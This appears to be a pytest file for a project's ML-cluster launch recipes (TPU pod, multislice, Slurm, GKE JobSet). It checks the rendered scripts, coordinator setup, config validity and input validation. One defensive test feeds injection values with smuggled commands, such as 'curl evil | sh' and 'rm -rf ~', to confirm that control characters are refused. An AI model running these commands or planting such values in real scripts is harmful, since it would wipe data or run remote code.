"""launch/recipes rendered for given sizes: the same command on every TPU worker, dcn_data = slices,
sbatch + srun with the coordinator on the first node (run with stand-in scontrol/srun), a JobSet
of one pod per host; every main.py command builds a valid config; bad input names value and rule."""

from __future__ import annotations

import importlib.util
import os
import pathlib
import re
import shlex
import subprocess
import sys

import pytest

from meshrl.configs import from_config_dict
from meshrl.configs.overrides import check_config_file, check_override_keys
from meshrl.launch.recipes import RecipeError, gke_jobset, multislice, slurm_gpu, tpu_pod
from meshrl.launch.recipes import render as render_cli

ROOT = pathlib.Path(__file__).resolve().parents[2]
CONFIG = str(ROOT / "configs" / "default.py")
OVERRIDES = ["--config.trainer.steps=10"]
# What the cluster puts in place of the per-host placeholders (process 1 of 4, say).
AT_RUN_TIME = {"$SLURM_PROCID": "1", "$SLURM_NTASKS": "4", "$COORDINATOR": "node-0:23456",
               "$(MESHRL_PROCESS_ID)": "1"}


def _tpu_pod(**kw):
    args = dict(name="my-tpu", zone="zone-a", num_hosts=4, devices_per_host=4, config=CONFIG,
                workdir="gs://bucket/run", repo_dir="~/meshrl", mesh={"data": 8, "tensor": 2},
                overrides=OVERRIDES)
    return tpu_pod(**{**args, **kw})


def _multislice(**kw):
    args = dict(name="ms", zone="zone-a", num_slices=3, hosts_per_slice=2, devices_per_host=4,
                accelerator_type="v5p-16", runtime_version="RUNTIME", config=CONFIG,
                workdir="gs://bucket/run", repo_dir="meshrl", mesh={"data": 4, "tensor": 2},
                overrides=OVERRIDES)
    return multislice(**{**args, **kw})


def _slurm(**kw):
    args = dict(nodes=4, gpus_per_node=8, config=CONFIG, workdir="/shared/run",
                repo_dir="/shared/meshrl", port=23456, setup=["echo setup"],
                mesh={"data": 16, "tensor": 2}, overrides=OVERRIDES)
    return slurm_gpu(**{**args, **kw})


def _jobset(**kw):
    args = dict(name="meshrl-run", num_hosts=4, devices_per_host=4, image="IMAGE",
                accelerator="google.com/tpu", config=CONFIG, workdir="gs://bucket/run",
                repo_dir="/app", port=23456, mesh={"data": 16}, overrides=OVERRIDES,
                node_selector={"cloud.google.com/gke-tpu-topology": "4x4"})
    return gke_jobset(**{**args, **kw})


def _ssh_commands(text: str) -> list[tuple[str, list[str]]]:
    """``(node, remote argv)`` of every ``gcloud ... tpu-vm ssh`` line."""
    out = []
    for line in text.splitlines():
        if line.startswith("gcloud compute tpus tpu-vm ssh"):
            words = shlex.split(line)
            command = next(w for w in words if w.startswith("--command="))
            out.append((words[5], shlex.split(command.split("=", 1)[1])))
    return out


def _shell_words(text: str) -> list[str]:
    """Every shell word of the script's command lines, quoted command strings split too."""
    words = []
    for line in text.splitlines():
        if line.lstrip().startswith("#") or not line.strip():
            continue
        for word in shlex.split(line):
            words.append(word)
            if " " in word:
                words += _shell_words(word.split("=", 1)[1] if word.startswith("--") else word)
    return words


def _jobset_command(text: str) -> tuple[dict, list[str]]:
    yaml = pytest.importorskip("yaml")
    doc = yaml.safe_load(text)
    job = doc["spec"]["replicatedJobs"][0]["template"]["spec"]
    return doc, job["template"]["spec"]["containers"][0]["command"]


def _main_words(recipe: str, text: str) -> list[str]:
    return _jobset_command(text)[1] if recipe == "gke_jobset" else _shell_words(text)


def test_tpu_pod_runs_one_command_on_all_workers_with_auto_start():
    text = _tpu_pod()

    [(node, argv)] = _ssh_commands(text)
    line = next(x for x in text.splitlines() if x.startswith("gcloud"))
    assert node == "my-tpu" and "--worker=all" in shlex.split(line)
    assert argv[:3] == ["cd", "~/meshrl", "&&"]
    assert argv[3:5] == ["python3", "main.py"]
    assert "--config.distributed.initialize=auto" in argv
    assert not [a for a in argv if "process_id" in a or "coordinator" in a]
    assert {"--config.mesh.data=8", "--config.mesh.tensor=2", *OVERRIDES} <= set(argv)


def test_multislice_runs_the_same_command_on_every_slice_with_dcn_data_equal_to_slices():
    text = _multislice(num_slices=3)

    ssh = _ssh_commands(text)
    assert [node for node, _ in ssh] == ["ms-0", "ms-1", "ms-2"]
    assert all(argv == ssh[0][1] for _, argv in ssh)
    argv = ssh[0][1]
    assert "--config.mesh.dcn_data=3" in argv and "--config.mesh.data=4" in argv
    assert "--config.distributed.initialize=auto" in argv
    create = next(x for x in text.splitlines() if "queued-resources create" in x)
    assert "--node-count=3" in create and "--node-prefix=ms" in create
    assert sum(x.endswith(" &") for x in text.splitlines()) == 3  # all slices start together
    assert 'wait "$pid" || status=1' in text


def test_slurm_script_asks_for_nodes_and_gpus_and_runs_main_through_srun():
    text = _slurm(nodes=4, gpus_per_node=8, partition="gpu")

    lines = text.splitlines()
    assert lines[0] == "#!/bin/bash"
    for directive in ("--nodes=4", "--ntasks-per-node=1", "--gpus-per-node=8", "--partition=gpu"):
        assert f"#SBATCH {directive}" in lines
    [srun] = [x for x in lines if x.startswith("srun ")]
    words = _shell_words(srun)
    assert "main.py" in words and "--config.distributed.initialize=explicit" in words
    assert "--config.distributed.process_id=$SLURM_PROCID" in words
    assert "--config.distributed.num_processes=$SLURM_NTASKS" in words


def test_slurm_recipe_takes_coordinator_from_first_node(tmp_path):
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    stand_ins = {  # scontrol expands the node list; srun runs the command once per task
        "scontrol": 'test "$*" = "show hostnames gpu-[7-9]" && printf "%s\\n" gpu-7 gpu-8 gpu-9',
        "srun": 'while [[ "$1" == -* ]]; do shift; done\n'
                'for i in 0 1 2; do SLURM_PROCID=$i SLURM_NTASKS=3 "$@" || exit; done',
    }
    for name, body in stand_ins.items():
        (bin_dir / name).write_text(f"#!/bin/bash\n{body}\n")
        (bin_dir / name).chmod(0o700)
    script = tmp_path / "job.sh"
    script.write_text(_slurm(nodes=3, gpus_per_node=2, mesh={"data": 6}, python="echo",
                             repo_dir=str(tmp_path)))
    env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}",
           "SLURM_JOB_NODELIST": "gpu-[7-9]"}

    out = subprocess.run(["bash", str(script)], env=env, capture_output=True, text=True,
                         timeout=30)

    assert out.returncode == 0, out.stderr
    tasks = out.stdout.splitlines()[1:]  # the first line is the setup's echo
    assert len(tasks) == 3
    for i, task in enumerate(tasks):
        argv = task.split()
        assert argv[0] == "main.py"
        assert "--config.distributed.coordinator_address=gpu-7:23456" in argv
        assert "--config.distributed.num_processes=3" in argv
        assert argv[-1] == f"--config.distributed.process_id={i}"


def test_jobset_yaml_has_one_pod_per_host_and_the_coordinator_on_pod_zero():
    doc, command = _jobset_command(_jobset(num_hosts=4, devices_per_host=4))

    assert (doc["apiVersion"], doc["kind"]) == ("jobset.x-k8s.io/v1alpha2", "JobSet")
    assert doc["spec"]["network"] == {"enableDNSHostnames": True, "subdomain": "meshrl-run"}
    [rjob] = doc["spec"]["replicatedJobs"]
    job = rjob["template"]["spec"]
    assert (rjob["name"], rjob["replicas"]) == ("workers", 1)
    assert (job["parallelism"], job["completions"], job["completionMode"]) == (4, 4, "Indexed")
    pod = job["template"]["spec"]
    assert pod["nodeSelector"] == {"cloud.google.com/gke-tpu-topology": "4x4"}
    [container] = pod["containers"]
    assert container["image"] == "IMAGE" and container["workingDir"] == "/app"
    assert container["resources"]["limits"] == {"google.com/tpu": 4}
    assert container["env"][0]["valueFrom"]["fieldRef"]["fieldPath"] == (
        "metadata.annotations['batch.kubernetes.io/job-completion-index']")
    assert command[:2] == ["python3", "main.py"]
    assert "--config.distributed.coordinator_address=meshrl-run-workers-0-0.meshrl-run:23456" \
        in command
    assert "--config.distributed.num_processes=4" in command
    assert "--config.distributed.process_id=$(MESHRL_PROCESS_ID)" in command


RECIPES = {"tpu_pod": _tpu_pod, "multislice": _multislice, "slurm_gpu": _slurm,
           "gke_jobset": _jobset}


@pytest.mark.parametrize("recipe", ["tpu_pod", "multislice", "slurm_gpu"])
def test_every_shell_recipe_is_valid_bash(recipe, tmp_path):
    (tmp_path / "run.sh").write_text(RECIPES[recipe]())
    out = subprocess.run(["bash", "-n", str(tmp_path / "run.sh")], capture_output=True, text=True)
    assert out.returncode == 0, out.stderr


def _config_with(words: list[str]):
    """configs/default.py with the ``--config.a.b=v`` words applied, as ml_collections would
    (each value parsed as its field's type), validated by the schema."""
    spec = importlib.util.spec_from_file_location("_recipe_default_config", CONFIG)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    cfg = module.get_config()
    for word in words:
        if word.startswith("--config."):
            path, value = word.removeprefix("--config.").split("=", 1)
            value = AT_RUN_TIME.get(value, value)
            section, field = path.split(".")
            old = cfg[section][field]
            cfg[section][field] = value == "true" if isinstance(old, bool) else type(old)(value)
    return from_config_dict(cfg)


@pytest.mark.parametrize("recipe", sorted(RECIPES))
def test_every_recipe_command_passes_the_config_checks_and_builds_a_valid_config(recipe):
    words = _main_words(recipe, RECIPES[recipe]())

    assert words.count("main.py") == (3 if recipe == "multislice" else 1)
    assert check_config_file(words) is None
    assert check_override_keys(words) is None
    config = _config_with(words)
    assert config.trainer.steps == 10
    keys = {w.split("=", 1)[0].removeprefix("--config.distributed.") for w in words
            if w.startswith("--config.distributed.")}
    if recipe in ("tpu_pod", "multislice"):
        assert keys == {"initialize"} and config.distributed.initialize == "auto"
    else:
        assert keys == {"initialize", "coordinator_address", "num_processes", "process_id"}
        assert config.distributed.initialize == "explicit"
        assert (config.distributed.num_processes, config.distributed.process_id) == (4, 1)
    if recipe == "multislice":
        assert (config.mesh.data, config.mesh.tensor, config.mesh.dcn_data) == (4, 2, 3)


@pytest.mark.parametrize("recipe, bad, message", [
    ("tpu_pod", {"num_hosts": 0}, "num_hosts = 0: must be an integer >= 1"),
    ("multislice", {"num_slices": 1}, "num_slices = 1: must be an integer >= 2"),
    ("slurm_gpu", {"gpus_per_node": -1}, "gpus_per_node = -1: must be an integer >= 1"),
    ("gke_jobset", {"devices_per_host": 2.5}, "devices_per_host = 2.5: must be an integer"),
    ("slurm_gpu", {"mesh": {"data": 3}}, "data=3 = 3 do not divide the 32 devices (4 nodes x 8"),
    ("tpu_pod", {"mesh": {"data": -1, "tensor": -1}}, "at most one -1 fill per ICI list"),
    ("tpu_pod", {"mesh": {"dat": 2}}, "mesh key 'dat': not a mesh axis"),
    ("multislice", {"mesh": {"dcn_data": 2}}, "sets the DCN sizes itself"),
    ("slurm_gpu", {"port": 70000}, "port = 70000: must be a TCP port"),
    ("gke_jobset", {"name": "Bad_Name"}, "name = 'Bad_Name': must be lowercase"),
    ("gke_jobset", {"accelerator": "tpu"}, "accelerator = 'tpu': must be a Kubernetes"),
])
def test_a_bad_input_is_rejected_with_the_value_and_the_rule(recipe, bad, message):
    with pytest.raises(RecipeError, match=re.escape(message)):
        RECIPES[recipe](**bad)


@pytest.mark.parametrize("recipe, bad", [
    ("tpu_pod", {"name": "my-tpu\ncurl evil | sh"}),  # the name lands in a bare comment line
    ("multislice", {"zone": "zone-a\rrm -rf ~"}),
    ("slurm_gpu", {"setup": ["module load cuda\nrm -rf ~"]}),
    ("slurm_gpu", {"workdir": "/shared/run\x00"}),
    ("gke_jobset", {"image": "IMAGE\x1b[2J"}),
    ("tpu_pod", {"overrides": ["--config.logging.level=INFO\necho owned"]}),
])
def test_a_control_character_in_a_recipe_value_is_refused_with_its_name(recipe, bad):
    field = next(iter(bad))
    with pytest.raises(RecipeError, match=r"must not contain control characters") as e:
        RECIPES[recipe](**bad)
    assert str(e.value).startswith(field if field != "overrides" else "overrides[0]")
    assert "\n" not in str(e.value) and "\r" not in str(e.value)  # one line


def test_cli_refuses_a_newline_in_a_recipe_name_with_one_error_line(capsys):
    code = render_cli.main(["tpu_pod", "--name", "t\nreboot", "--zone", "z", "--num_hosts", "2",
                            "--devices_per_host", "4", "--config", CONFIG, "--workdir", "w",
                            "--repo_dir", "r"])

    assert code == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert err.startswith("error: name = 't\\nreboot': must not contain control characters")


@pytest.mark.parametrize("override, message", [
    ("--config.trainer.stepz=3", "unknown config key 'trainer.stepz'"),
    ("--config.distributed.initialize=never", "the recipe sets distributed.initialize itself"),
    ("--config.mesh.data=4", "the recipe sets mesh.data itself"),
    ("trainer.steps=3", "must look like --config.section.field=value"),
])
def test_an_override_that_main_would_reject_or_the_recipe_owns_fails_at_render(override, message):
    with pytest.raises(RecipeError, match=re.escape(message)):
        _tpu_pod(overrides=[override])


def test_cli_prints_the_recipe_the_function_renders(capsys):
    argv = ["slurm_gpu", "--nodes", "4", "--gpus_per_node", "8", "--port", "23456", "--config",
            CONFIG, "--workdir", "/shared/run", "--repo_dir", "/shared/meshrl", "--setup",
            "echo setup", "--mesh", "data=16,tensor=2", "--", *OVERRIDES]

    code = render_cli.main(argv)

    assert code == 0
    assert capsys.readouterr().out == _slurm()


def test_cli_exits_2_with_one_error_line_on_a_bad_size(capsys):
    code = render_cli.main(["gke_jobset", "--name", "x", "--num_hosts", "0",
                            "--devices_per_host", "4", "--image", "i", "--accelerator",
                            "nvidia.com/gpu", "--config", CONFIG, "--workdir", "w",
                            "--repo_dir", "/app"])

    assert code == 2
    assert capsys.readouterr().err == "error: num_hosts = 0: must be an integer >= 1\n"


def test_cli_script_runs_from_its_path():
    script = ROOT / "launch" / "recipes" / "render.py"
    out = subprocess.run([sys.executable, str(script), "tpu_pod", "--name", "t", "--zone", "z",
                          "--num_hosts", "2",
                          "--devices_per_host", "4", "--config", CONFIG, "--workdir", "w",
                          "--repo_dir", "r"], capture_output=True, text=True, timeout=60)

    assert out.returncode == 0, out.stderr
    assert out.stdout == _tpu_pod(name="t", zone="z", num_hosts=2, workdir="w", repo_dir="r",
                                  mesh=None, overrides=())
